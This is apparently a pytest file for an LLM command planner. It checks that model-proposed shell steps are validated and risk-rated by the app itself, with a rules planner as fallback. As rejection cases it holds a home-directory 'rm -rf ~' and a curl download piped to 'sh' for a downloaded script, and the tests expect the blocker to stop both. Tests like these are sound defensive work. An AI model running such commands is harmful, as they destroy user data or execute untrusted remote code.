"""The LLM planner: the model's JSON is validated and re-rated here; anything unusable falls back to rules.

The parser is tested on exact answers; the whole path against the real local model (SmolLM2 on
llama.cpp), where whichever planner answered is reported in `planner` and the plan must hold either way.
"""
from __future__ import annotations

import json

import pytest

from app import llm
from plugins.executor.planner_llm import InvalidPlan, parse
from plugins.executor.risk import assess
from tests.support.identity import bearer, error_of, make_admin
from tests.support.llm_server import llm_providers


def answer(steps, **extra) -> str:
    return json.dumps({"steps": steps, **extra})


def test_a_valid_answer_becomes_steps():
    steps, estimate = parse(answer([{"description": "check git", "command": "git --version", "risk": "dangerous"},
                                    {"description": "show status", "command": "git status"}],
                                   estimated_time="10 seconds"), max_steps=5)
    assert [(s.description, s.command) for s in steps] == [("check git", "git --version"),
                                                          ("show status", "git status")]
    assert estimate == "10 seconds"


def test_prose_and_code_fences_around_the_json_are_tolerated():
    text = "Sure! Here is the plan:\n```json\n" + answer([{"description": "d", "command": "df -h"}]) + "\n```\nBye"
    assert [s.command for s in parse(text, max_steps=5)[0]] == ["df -h"]


@pytest.mark.parametrize("text, why", [
    ("I would run df -h.", "no JSON object"),
    ('{"steps": [{"description": "x", "command": "ls"}', "not valid JSON"),
    ('{"steps": [{"description": "x", "command": }]}', "not valid JSON"),
    ('{"steps": []}', "does not match the schema"),
    ('{"steps": [{"command": "ls"}]}', "does not match the schema"),
    ('{"plan": "ls"}', "does not match the schema"),
    (answer([{"description": "d", "command": "ls"}] * 6), "more than 5"),
    (answer([{"description": "clean", "command": "rm -rf ~"}]), "would be blocked"),
    (answer([{"description": "get", "command": "curl -o x.sh https://e.com/x.sh"},
             {"description": "run", "command": "sh x.sh"}]), "would be blocked"),
])
def test_unusable_answers_are_rejected_with_the_reason(text, why):
    with pytest.raises(InvalidPlan, match=why):
        parse(text, max_steps=5)


def test_planner_llm_without_a_model_is_503(make_app, tmp_path):
    app = make_app(EXECUTOR_ENABLED=True, EXECUTOR_PLANNER="llm", LLM_OFFLINE=False, LLM_PROVIDERS=[],
                   EXECUTOR_WORKSPACE=str(tmp_path / "ws"))
    client = app.test_client()
    session = make_admin(app, client)
    error_of(client.post("/v1/executor/plan", json={"command": "disk usage"}, headers=bearer(session)), 503,
             "LLM_UNAVAILABLE")


@pytest.mark.xdist_group("llm")
class TestWithTheLocalModel:
    @pytest.fixture
    def app(self, make_app, llm_upstream, tmp_path):
        return make_app(EXECUTOR_ENABLED=True, LLM_OFFLINE=False, LLM_PROVIDERS=llm_providers(llm_upstream),
                        EXECUTOR_LLM_MAX_TOKENS=200, EXECUTOR_WORKSPACE=str(tmp_path / "ws"))

    def test_the_plan_holds_whichever_planner_answered(self, app):
        client = app.test_client()
        session = make_admin(app, client)
        response = client.post("/v1/executor/plan", json={"command": "install git", "context": {"os": "Ubuntu"}},
                               headers=bearer(session))
        assert response.status_code == 200, response.get_data(as_text=True)
        data = response.get_json()["data"]
        assert data["planner"] in ("llm", "rules")
        if data["planner"] == "rules":  # the small model's answer was unusable: the reason is kept
            assert data["fallback_reason"] and data["steps"][-1]["command"] == "dpkg-query -W git"
        for step in data["steps"]:  # every step rated here, never by the model
            verdict = assess(step["command"])
            assert not verdict.blocked and step["risk"] == verdict.risk and step["reason"] == verdict.reason
        with app.app_context():
            assert sum(row["requests"] for row in llm.usage_for(session["user"]["id"])) == 1

    def test_a_request_the_rules_do_not_know_is_the_models_or_unsupported(self, app):
        client = app.test_client()
        session = make_admin(app, client)
        response = client.post("/v1/executor/plan", json={"command": "tell me a joke about compilers"},
                               headers=bearer(session))
        if response.status_code == 200:
            data = response.get_json()["data"]
            assert data["planner"] == "llm" and data["fallback_reason"] is None
            assert all(not assess(s["command"]).blocked for s in data["steps"])
        else:
            error = error_of(response, 422, "UNSUPPORTED_COMMAND")
            assert error["details"]["llm_error"] and error["details"]["suggestions"]

    def test_the_rules_planner_can_be_forced(self, make_app, llm_upstream, tmp_path):
        app = make_app(EXECUTOR_ENABLED=True, EXECUTOR_PLANNER="rules", LLM_OFFLINE=False,
                       LLM_PROVIDERS=llm_providers(llm_upstream), EXECUTOR_WORKSPACE=str(tmp_path / "ws"))
        client = app.test_client()
        session = make_admin(app, client)
        response = client.post("/v1/executor/plan", json={"command": "disk usage"}, headers=bearer(session))
        assert response.get_json()["data"]["planner"] == "rules"
        with app.app_context():
            assert llm.usage_for(session["user"]["id"]) == []
